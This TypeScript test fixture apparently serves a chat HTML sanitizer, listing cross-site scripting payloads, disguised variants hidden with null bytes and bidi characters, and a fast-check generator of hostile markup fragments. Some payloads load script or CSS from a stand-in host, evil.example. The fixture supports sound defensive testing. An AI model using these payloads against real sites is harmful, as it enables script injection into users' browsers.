import fc from 'fast-check';

/** Each is active markup in a page that puts it into `innerHTML` (CHAT-7). */
export const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img\nsrc=x\nonerror\n=\nalert(1)\n>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href=" &#1;java&#10;script:alert(1)">click</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">click</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<body onload=alert(1)><div onclick=alert(1)>x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<object data="javascript:alert(1)"></object>',
  '<style>@import "//evil.example/x.css";</style>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1) <b>',
  '"><img src=x onerror=alert(1)>',
  '</title></textarea></style><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<?xml ?><img src=x onerror=alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<x/onpointerenter=alert(1)>x',
  '<video><source onerror=alert(1)></video>',
];

/** Harmless as it stands: but what cleaning takes away must not put together what it let through. */
export const HIDDEN_ATTACKS = [
  '<img src=x onerror=alert(1)//',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<\u0000script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x on\u202eerror=alert(1)>',
  '<\u202eimg src=x onerror=alert(1)>',
  '<\u0001\u202eimg src=x onerror=alert(1)>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<\ud800img src=x onerror=alert(1)>',
];

/** Text in which the dangerous pieces meet far more often than by chance. */
export const nastyText = fc
  .array(
    fc.oneof(
      fc.constantFrom('<', '>', '/', '!', '?', '&', '&lt;', '-', 's', 'script', 'img src=x onerror=alert(1)', '"', "'"),
      fc.constantFrom(
        ' ',
        '\n',
        '\r',
        '\t',
        '\0',
        '\u0085',
        '\u202E',
        '\u2069',
        '\u2028',
        '\uFEFF',
        '\uD83D',
        '\uDC83',
      ),
      fc.constantFrom(
        '\u212A',
        '\u0338',
        '\u0301',
        '\u0344',
        '\u034F',
        '\u0F73',
        '\u0958',
        '\u037E',
        'a',
        'e',
        'é',
        '한',
      ),
      fc.constantFrom('\u0344'.repeat(31), '\u0301'.repeat(29), '\u0316'.repeat(40), '\u0345\u0301'.repeat(20)),
      fc.string({ unit: 'binary', maxLength: 3 }),
    ),
    { maxLength: 20 },
  )
  .map((pieces) => pieces.join(''));
